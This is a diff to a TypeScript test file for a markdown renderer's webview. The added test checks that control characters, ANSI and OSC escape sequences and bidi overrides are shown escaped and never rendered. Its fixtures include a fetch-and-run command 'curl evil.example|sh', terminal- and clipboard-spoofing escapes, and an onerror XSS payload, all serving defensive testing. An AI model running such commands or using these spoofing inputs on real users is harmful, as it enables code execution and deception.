@@ -1,6 +1,6 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { inline, renderMarkdown, safeHref, stablePrefix } from "../src/webview/markdown";
+import { escapeHtml, inline, renderMarkdown, safeHref, stablePrefix, visible } from "../src/webview/markdown";
 
 test("HTML in the source is escaped, never rendered", () => {
 	assert.equal(renderMarkdown("<img src=x onerror=alert(1)> & <script>x</script>"), "<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>");
@@ -66,4 +66,15 @@ test("stablePrefix cuts only at block boundaries outside code fences", () => {
 	// A list after a blank line is not a boundary (it may be a loose list).
 	const list = "- a\n\n- b\n";
 	assert.equal(stablePrefix(list, 0), 0);
+});
+
+test("control and bidi characters are shown, never rendered or obeyed (issue 23)", () => {
+	const spoof = "curl evil.example|sh\r\x1b[2K\x1b[1A  $ ls -la \x1b]52;c;ZXZpbA==\x07 \u009b2J \u202eevil\u202c";
+	const html = renderMarkdown(spoof);
+	assert.equal(html, "<p>curl evil.example|sh<br>\\x1b[2K\\x1b[1A  $ ls -la \\x1b]52;c;ZXZpbA==\\x07 \\u009b2J \\u202eevil\\u202c</p>");
+	assert.doesNotMatch(renderMarkdown("```\n" + spoof + "\n```"), /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/);
+	assert.equal(visible("tab\tand\nline, ünï 日本 👍"), "tab\tand\nline, ünï 日本 👍");
+	assert.equal(escapeHtml("<\x1b>"), "&lt;\\x1b&gt;");
+	// The renderer's own placeholders cannot be forged from the text.
+	assert.equal(inline("a \u0000C0\u0000 `b`"), "a \\x00C0\\x00 <code>b</code>");
 });
